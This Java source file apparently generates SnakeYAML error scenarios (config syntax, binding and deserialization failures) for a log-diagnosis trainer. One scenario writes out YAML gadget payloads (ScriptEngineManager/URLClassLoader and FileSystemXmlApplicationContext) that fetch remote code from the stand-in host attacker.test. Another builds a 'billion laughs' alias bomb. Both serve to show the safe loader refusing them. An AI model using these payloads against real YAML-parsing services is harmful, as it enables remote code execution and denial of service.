package io.logdx.trainer.data.scenario;

import static io.logdx.trainer.data.Ctx.fail;
import static io.logdx.trainer.data.Scenario.cheap;

import io.logdx.trainer.data.Ctx;
import io.logdx.trainer.data.Scenario;
import java.io.Reader;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.Constructor;

/**
 * SnakeYAML 2.x reading two kinds of YAML: an application's own configuration file (a syntax error, an unknown or
 * duplicate key, a value of the wrong type: configuration_error) and YAML sent by callers (pipeline definitions,
 * imports, rule sets: deserialization), where the safe loader also refuses global tags and alias bombs.
 */
final class SnakeyamlScenarios {
  private SnakeyamlScenarios() {}

  /** The application's configuration loader wraps what SnakeYAML throws with the file it read. */
  static final class ConfigLoadException extends RuntimeException {
    private static final long serialVersionUID = 1L;

    ConfigLoadException(String m, Throwable cause) {
      super(m, cause);
    }
  }

  /** Settings bound from a configuration file. */
  public static final class ServerSettings {
    private int port;
    private String host;
    private int maxConnections;
    private long timeoutMs;

    public int getPort() { return port; }

    public void setPort(int port) { this.port = port; }

    public String getHost() { return host; }

    public void setHost(String host) { this.host = host; }

    public int getMaxConnections() { return maxConnections; }

    public void setMaxConnections(int maxConnections) { this.maxConnections = maxConnections; }

    public long getTimeoutMs() { return timeoutMs; }

    public void setTimeoutMs(long timeoutMs) { this.timeoutMs = timeoutMs; }
  }

  /** A transfer rule sent by a caller. */
  public static final class TransferRule {
    private String name;
    private String currency;
    private List<String> channels;

    public String getName() { return name; }

    public void setName(String name) { this.name = name; }

    public String getCurrency() { return currency; }

    public void setCurrency(String currency) { this.currency = currency; }

    public List<String> getChannels() { return channels; }

    public void setChannels(List<String> channels) { this.channels = channels; }
  }

  static String configFile(Ctx c) {
    return c.s.pick("application.yml", "application-prod.yml", "config/settlement.yaml", "gateway.yml", "batch-jobs.yml",
        "routes.yaml", "limits.yml");
  }

  /** Loads a configuration file from disk, as a start-up loader does; the file's folder is shown as a deploy path. */
  static Object loadConfig(Ctx c, String text, Yaml yaml) throws Exception {
    String name = configFile(c);
    Path dir = c.res.tempDir().resolve("yaml-config-" + c.s.digits(6));
    Path f = dir.resolve(name);
    Files.createDirectories(f.getParent());
    Files.writeString(f, text, StandardCharsets.UTF_8);
    String shown = c.s.pick("/etc/app", "/opt/app/config", "/app/config", "/srv/payments/conf");
    c.text(dir.toString(), shown);
    beanHash(c);
    try (Reader r = Files.newBufferedReader(f, StandardCharsets.UTF_8)) {
      return yaml.load(r);
    } catch (RuntimeException e) {
      if (c.s.chance(0.4)) throw e;
      c.type(ConfigLoadException.class, c.s.pick("ConfigLoadException", "ConfigurationLoadException", "SettingsException"));
      throw new ConfigLoadException(c.s.pick("Failed to load configuration from ", "Could not read config file ",
          "Invalid configuration file: ") + f, e);
    }
  }

  /** A bean's identity hash in a ConstructorException's message is shown as a value drawn from the seed. */
  static void beanHash(Ctx c) {
    String h = c.s.hex(c.s.between(7, 8));
    c.rewrite("(JavaBean=[\\w.$]+)@[0-9a-f]+", m -> m.group(1) + "@" + h);
  }

  static String malformed(Ctx c) {
    int port = c.s.pick(8080, 8443, 9090, 18080);
    String host = c.s.pick("ledger-svc", "db-primary.internal", "payments-api.internal", "settlement-gw");
    return switch (c.rnd.nextInt(6)) {
      case 0 -> "server:\n  port: " + port + "\n\tssl: true\n";
      case 1 -> "spring:\n  datasource:\n    url: jdbc:postgresql://" + host + ":5432/ledger\n   username: app\n";
      case 2 -> "limits:\n  daily: [" + c.s.krw().replace(",", "") + ", " + c.s.between(1, 9) + "000\n  currency: KRW\n";
      case 3 -> "routes:\n  - id: transfers\n    uri: http://" + host + ":" + port + "\n  predicates: Path=/api/**\n- id: fx\n";
      case 4 -> "batch:\n  cron: " + c.s.pick("*/5 * * * *", "0 0 2 * * ?") + "\n  input: '/data/in/" + c.s.dateCompact() + ".csv\n  retries: 3\n";
      default -> "kafka:\n  bootstrap-servers: " + host + ":9092\n  consumer:\n    group-id: \"settlement\n    auto-offset-reset: earliest\n";
    };
  }

  static List<Scenario> all() {
    List<Scenario> l = new ArrayList<>();
    // ---- configuration_error: the application's own YAML file
    l.add(cheap("configuration_error", "snakeyaml.config-syntax", c -> {
      String text = malformed(c);
      return fail(() -> loadConfig(c, text, new Yaml()));
    }));
    l.add(cheap("configuration_error", "snakeyaml.config-binding", c -> {
      LoaderOptions o = new LoaderOptions();
      String text;
      switch (c.rnd.nextInt(4)) {
        case 0 -> text = "port: " + c.s.pick("eighty", "8080/tcp", "${SERVER_PORT}", "80 80") + "\nhost: ledger-svc\n";
        case 1 -> text = "port: 8080\n" + c.s.pick("hots", "maxConnection", "timeout", "max-connections", "ssl") + ": "
            + c.s.between(1, 500) + "\n";
        case 2 -> {
          o.setAllowDuplicateKeys(false);
          String k = c.s.pick("port", "host", "timeoutMs");
          text = k + ": " + c.s.between(1, 9000) + "\nmaxConnections: " + c.s.between(5, 200) + "\n" + k + ": " + c.s.between(1, 9000) + "\n";
        }
        default -> text = "timeoutMs: " + c.s.pick("30s", "500ms", "1m") + "\nport: 8080\n";
      }
      Yaml yaml = new Yaml(new Constructor(ServerSettings.class, o));
      return fail(() -> loadConfig(c, text, yaml));
    }));
    // ---- deserialization: YAML sent by a caller
    l.add(cheap("deserialization", "snakeyaml.payload-malformed", c -> {
      String rule = c.s.pick("fx-alert", "daily-cap", "weekend-hold", "sweep");
      String text = switch (c.rnd.nextInt(4)) {
        case 0 -> "name: " + rule + "\ncurrency: " + c.s.currency() + "\nchannels:\n  - APP\n\t- WEB\n";
        case 1 -> "name: " + rule + "\nchannels: [APP, WEB\ncurrency: " + c.s.currency() + "\n";
        case 2 -> "name: \"" + rule + "\ncurrency: " + c.s.currency() + "\n";
        default -> "name: " + rule + "\n  currency: " + c.s.currency() + "\nchannels: [APP]\n";
      };
      Yaml yaml = new Yaml(new Constructor(TransferRule.class, new LoaderOptions()));
      return fail(() -> yaml.load(new StringReader(text)));
    }));
    l.add(cheap("deserialization", "snakeyaml.payload-binding", c -> {
      LoaderOptions o = new LoaderOptions();
      String text;
      if (c.s.chance(0.5)) {
        text = "name: " + c.s.pick("fx-alert", "daily-cap") + "\n" + c.s.pick("ccy", "channel", "limit", "enabled") + ": "
            + c.s.pick("KRW", "APP", "1000", "true") + "\n";
      } else {
        o.setAllowDuplicateKeys(false);
        text = "name: " + c.s.pick("fx-alert", "daily-cap") + "\ncurrency: " + c.s.currency() + "\nname: other\n";
      }
      Yaml yaml = new Yaml(new Constructor(TransferRule.class, o));
      beanHash(c);
      return fail(() -> yaml.load(new StringReader(text)));
    }));
    // ---- deserialization: the safe loader refuses global tags; limits stop alias bombs and huge documents
    l.add(cheap("deserialization", "snakeyaml.global-tag-refused", c -> {
      String text = c.s.pick(
          "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.test/\"]]]]\n",
          "rule: !!com.acme.pay.rules.TransferRule\n  name: sweep\n",
          "!!java.util.HashMap {name: " + c.s.pick("sweep", "cap") + "}\n",
          "- !!org.springframework.context.support.FileSystemXmlApplicationContext [\"http://attacker.test/x.xml\"]\n");
      return fail(() -> new Yaml().load(new StringReader(text)));
    }));
    l.add(cheap("deserialization", "snakeyaml.document-limits", c -> {
      LoaderOptions o = new LoaderOptions();
      String text;
      switch (c.rnd.nextInt(3)) {
        case 0 -> {
          // the "billion laughs" shape: aliases of aliases
          StringBuilder sb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
          char prev = 'a';
          for (int i = 0; i < 9; i++) {
            char n = (char) ('b' + i);
            sb.append(n).append(": &").append(n).append(" [");
            for (int j = 0; j < 9; j++) sb.append(j == 0 ? "" : ",").append('*').append(prev);
            sb.append("]\n");
            prev = n;
          }
          if (c.s.chance(0.5)) o.setMaxAliasesForCollections(c.s.pick(20, 50, 64));
          text = sb.toString();
        }
        case 1 -> {
          int limit = c.s.pick(1024, 4096, 65_536);
          o.setCodePointLimit(limit);
          text = "entries:\n" + ("  - {id: " + c.s.digits(8) + ", memo: \"" + "x".repeat(40) + "\"}\n").repeat(limit / 50 + 2);
        }
        default -> {
          o.setNestingDepthLimit(c.s.pick(20, 50));
          int n = c.s.between(60, 120);
          text = "[".repeat(n) + "]".repeat(n);
        }
      }
      return fail(() -> new Yaml(o).load(new StringReader(text)));
    }));
    return l;
  }
}
